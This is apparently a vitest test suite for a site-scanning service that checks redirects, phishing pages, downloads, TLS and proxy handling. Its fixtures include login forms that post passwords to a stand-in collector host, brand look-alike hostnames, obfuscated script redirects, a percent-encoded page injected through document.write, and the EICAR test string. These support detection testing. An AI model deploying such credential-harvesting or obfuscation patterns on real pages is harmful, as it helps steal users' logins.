import { afterEach, describe, expect, test } from 'vitest';
import { handlerServer } from '../service/handler-server.ts';
import { LOOPBACK, type Pages, sendHtml, sendTo, site, tlsSite, visited } from './visit-fixture.ts';

const open: { close(): Promise<void> }[] = [];
afterEach(async () => {
  await Promise.all(open.splice(0).map((server) => server.close()));
});
const started = async (pages: Pages) => {
  const server = await site(pages);
  open.push(server);
  return server;
};

/** The visit to `/` of a site under a name. */
const visitOf = async (pages: Pages, host = 'site.example') => {
  const { port, heard } = await started(pages);
  return { ...(await visited(`http://${host}:${port}/`, [port])), port, heard };
};

const login = (action: string, title = 'Members', head = '') =>
  `<html><head><title>${title}</title>${head}</head><body><form action="${action}" method="post">
  <input name="user"><input name="pass" type="password"></form></body></html>`;

describe('redirects', () => {
  test.each([
    ['HTTP', sendTo('/end'), 'http'],
    ['a meta element', sendHtml('<META content="0; URL=\'/end\'" HTTP-EQUIV=Refresh>'), 'meta'],
    ['an entity in a meta element', sendHtml('<meta http-equiv=refresh content="0;url=&#47;end">'), 'meta'],
    ['location =', sendHtml('<script>window.location = "/end";</script>'), 'script'],
    ['location.href', sendHtml("<script>location.href='\\x2fend'</script>"), 'script'],
    ['location.replace', sendHtml('<script>top.location.replace(`/end`)</script>'), 'script'],
    [
      'a decoder',
      sendHtml(`<script>location.assign(atob("${Buffer.from('/end').toString('base64')}"))</script>`),
      'script',
    ],
    ['a timer', sendHtml('<script>setTimeout(function () { location = "/end" }, 1)</script>'), 'script'],
  ])('are followed: %s', async (_, page, via) => {
    const { visit, heard } = await visitOf({ '/': page, '/end': sendHtml('<title>the end</title>') });
    expect(heard.map(({ url }) => url)).toEqual(['/', '/end']);
    expect(visit.hops[1]).toMatchObject({ via, status: 200 });
    expect(visit).toMatchObject({ outcome: 'visited', end: null, page: { title: 'the end' } });
  });

  test.each([
    ['of a click', '<script>button.onclick = function () { location = "/end" }</script>'],
    ['of a comparison', '<script>if (location == "/end") start()</script>'],
    ['after an hour', '<meta http-equiv=refresh content="3600;url=/end">'],
    ['to itself', '<meta http-equiv=refresh content="5;url=/">'],
  ])('are not made up: %s', async (_, html) => {
    expect((await visitOf({ '/': sendHtml(html) })).heard).toHaveLength(1);
  });

  test('judges where they lead', async () => {
    const { port } = await started({ '/': sendTo((at) => `http://paypal-login.evil.example:${at}/`, 301) });
    const report = await visited(`http://site.example:${port}/`, [port]);
    expect(report.findings).toContainEqual(
      expect.objectContaining({ id: 'borrowed-brand', where: 'host after redirects' }),
    );
    expect(report.ids).toContain('leads-elsewhere');
  });
});

describe('pages', () => {
  test('a plain page is read as a whole and has no findings', async () => {
    const { visit, ids } = await visitOf({ '/': sendHtml('<title> Caf&eacute;\n menu </title><p>Hello') });
    expect(visit.page).toEqual({
      title: 'Café menu',
      forms: [],
      hasPassword: false,
      logos: [],
      redirect: null,
      tricks: [],
    });
    // The fixture's port.
    expect(ids).toEqual(['unusual-port']);
  });

  test('a password that is sent to another site', async () => {
    const { ids } = await visitOf({ '/': sendHtml(login('https://collector.example.net/post')) });
    expect(ids).toContain('credentials-elsewhere');
  });

  test('a login of the site itself is none', async () => {
    const { ids } = await visitOf({ '/': sendHtml(login('https://auth.site.example/login')) });
    expect(ids).not.toContain('credentials-elsewhere');
  });

  test('a button with its own action also sends elsewhere', async () => {
    const html =
      '<form action="/ok"><input type=password><button formaction="https://collector.example.net/">go</button></form>';
    expect((await visitOf({ '/': sendHtml(html) })).ids).toContain('credentials-elsewhere');
  });

  test('a base element moves where forms send', async () => {
    const { ids } = await visitOf({
      '/': sendHtml(login('post.php', 'x', '<base href="https://collector.example.net/">')),
    });
    expect(ids).toContain('credentials-elsewhere');
  });

  test('a password on a host that looks like a brand', async () => {
    const report = await visitOf({ '/': sendHtml(login('/post')) }, 'paypal-login.example');
    expect(report.ids).toContain('login-on-look-alike');
    expect(report.level).toBe('malicious');
  });

  test.each([
    ['title and logo', 'PayPal: log in', '<img class=logo alt="PayPal" src="/l.png">'],
    [
      'title and the icon of the brand',
      'Log in to your PayPal account',
      '<link rel="icon" href="https://www.paypalobjects.com/icon.ico">',
    ],
  ])('a page of a brand elsewhere: %s', async (_, title, head) => {
    const report = await visitOf({ '/': sendHtml(login('/post', title, head)) });
    expect(report.ids).toContain('brand-page-elsewhere');
    expect(report.level).toBe('malicious');
  });

  test('a shop that offers a login with a brand is no finding', async () => {
    const html = login('/post', 'Garden shop', '<img class=logo alt="Garden shop" src="/l.png">');
    const { ids } = await visitOf({
      '/': sendHtml(`${html}<a href="https://accounts.google.com/">Sign in with Google</a>`),
    });
    expect(ids.filter((id) => id.startsWith('brand'))).toEqual([]);
  });

  test('a page that a script writes', async () => {
    const hidden = encodeURIComponent(login('/p')).replace(
      /[a-z]/g,
      (letter) => `%${letter.charCodeAt(0).toString(16)}`,
    );
    const { ids } = await visitOf({ '/': sendHtml(`<script>document.write(unescape("${hidden}"))</script>`) });
    expect(ids).toContain('page-writes-itself');
  });

  test('an error says that there was no page', async () => {
    const { visit, ids } = await visitOf({});
    expect(visit.hops[0]?.status).toBe(404);
    expect(ids).toContain('page-refused');
  });

  test('markup under another type is a page, as browsers guess', async () => {
    const { visit } = await visitOf({
      '/': (response) => response.writeHead(200, { 'content-type': 'text/plain' }).end('<html><title>guessed</title>'),
    });
    expect(visit.page?.title).toBe('guessed');
  });

  test('damaged markup ends the reading, not the visit', async () => {
    const { visit } = await visitOf({
      '/': sendHtml(`<form ${'<a '.repeat(20_000)}<input type=password <title>&#xD800;`),
    });
    expect(visit.outcome).toBe('visited');
  });
});

describe('downloads', () => {
  const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

  test('go to the static engine, whose level lifts the report', async () => {
    const report = await visitOf({
      '/': (response) =>
        response
          .writeHead(200, { 'content-type': 'text/plain', 'content-disposition': 'attachment; filename="readme.txt"' })
          .end(eicar),
    });
    expect(report.visit.file).toMatchObject({ untrustedName: 'readme.txt', level: 'malicious' });
    expect(report.ids).toContain('download-malicious');
    expect(report.level).toBe('malicious');
  });

  test('are known by their first bytes, under any type', async () => {
    const { visit, ids } = await visitOf({
      '/': (response) => response.writeHead(200, { 'content-type': 'image/png' }).end('PK\x03\x04rest'),
    });
    expect(visit.file?.hashes.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(ids.some((id) => id.startsWith('download-'))).toBe(true);
  });

  test('a picture is none', async () => {
    const { visit } = await visitOf({
      '/': (response) => response.writeHead(200, { 'content-type': 'image/png' }).end('\x89PNG'),
    });
    expect(visit).toMatchObject({ outcome: 'visited', file: null, page: null });
  });
});

describe('TLS', () => {
  test('a certificate that nobody has signed ends the visit', async () => {
    const server = await tlsSite('<title>secret</title>');
    open.push(server);
    const report = await visited(`https://localhost:${server.port}/`, [server.port]);
    expect(report.visit).toMatchObject({ end: 'certificate', page: null });
    expect(report.ids).toContain('certificate-refused');
  });

  test('a certificate for another name ends it too', async () => {
    const server = await tlsSite('<title>secret</title>');
    open.push(server);
    const report = await visited(`https://other.example:${server.port}/`, [server.port], { ca: server.cert });
    expect(report.visit.end).toBe('certificate');
  });

  test('a valid one is described', async () => {
    const server = await tlsSite('<title>safe</title>');
    open.push(server);
    const { visit } = await visited(`https://localhost:${server.port}/`, [server.port], { ca: server.cert });
    expect(visit.page?.title).toBe('safe');
    expect(visit.certificate).toMatchObject({
      subject: 'CN=localhost',
      issuer: 'CN=localhost',
      validFromMs: Date.UTC(2020, 0, 1),
    });
    expect(visit.certificate?.fingerprint).toMatch(/^([0-9A-F]{2}:){31}[0-9A-F]{2}$/);
  });
});

describe('a proxy', () => {
  /** A proxy that understands CONNECT, leads every connection to one port of this machine, and notes the requests. */
  const proxyTo = async (port: number) => {
    const { createServer } = await import('node:http');
    const { connect } = await import('node:net');
    const asked: string[] = [];
    const server = createServer().on('connect', (incoming, socket) => {
      asked.push(`${incoming.url} ${incoming.headers['proxy-authorization'] ?? ''}`.trim());
      const target = connect(port, LOOPBACK, () => {
        socket.write('HTTP/1.1 200 OK\r\n\r\n');
        target.pipe(socket).pipe(target);
      });
      for (const end of [target, socket]) end.on('error', () => end.destroy());
    });
    await new Promise<void>((resolve) => server.listen(0, LOOPBACK, resolve));
    open.push({ close: async () => void server.close() });
    const address = server.address();
    return { url: `http://${LOOPBACK}:${typeof address === 'object' ? address?.port : 0}`, asked };
  };

  test('is asked for the checked address, never for a name', async () => {
    const { port, heard } = await started({ '/': sendHtml('<title>through</title>') });
    const { url, asked } = await proxyTo(port);
    const { visit } = await visited('http://site.example/', [], {
      proxy: url.replace('//', '//me:pass@'),
      resolve: async () => ['93.184.216.34'],
    });
    expect(visit.page?.title).toBe('through');
    expect(asked).toEqual([`93.184.216.34:80 Basic ${Buffer.from('me:pass').toString('base64')}`]);
    expect(heard[0]?.headers.host).toBe('site.example');
  });

  test('carries TLS that is verified for the name', async () => {
    const server = await tlsSite('<title>inside</title>');
    open.push(server);
    const { url } = await proxyTo(server.port);
    const options = { proxy: url, resolve: async () => ['93.184.216.34'] };
    expect((await visited('https://localhost/', [], { ...options, ca: server.cert })).visit.page?.title).toBe('inside');
    expect((await visited('https://localhost/', [], options)).visit.end).toBe('certificate');
  });

  test('does not switch off the guard, and its refusal ends the visit', async () => {
    const { url, asked } = await proxyTo(1);
    const report = await visited('http://site.example/', [], { proxy: url, resolve: async () => ['10.0.0.1'] });
    expect(report.visit.end).toBe('internal-address');
    expect(asked).toEqual([]);
    const refusing = await handlerServer((_, response) => response.writeHead(403).end());
    open.push(refusing);
    const refused = await visited('http://site.example/', [], {
      proxy: refusing.url,
      resolve: async () => ['93.184.216.34'],
    });
    expect(refused.visit.end).toBe('connection');
  });
});
